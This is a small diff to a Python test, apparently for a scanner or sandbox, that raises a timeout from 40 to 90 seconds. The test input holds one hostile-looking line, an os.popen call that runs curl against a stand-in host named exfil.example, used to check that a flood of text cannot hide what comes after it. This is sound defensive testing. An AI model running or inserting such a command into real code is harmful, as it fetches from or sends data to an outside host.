@@ -437,7 +437,7 @@ def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(
     exhaust: Any, flood: str
 ) -> None:
     report = exhaust(
-        flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=40
+        flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=90
     )
     assert report["outcome"] == "ok", report["reason"]
     assert len(str(report)) < 20_000_000
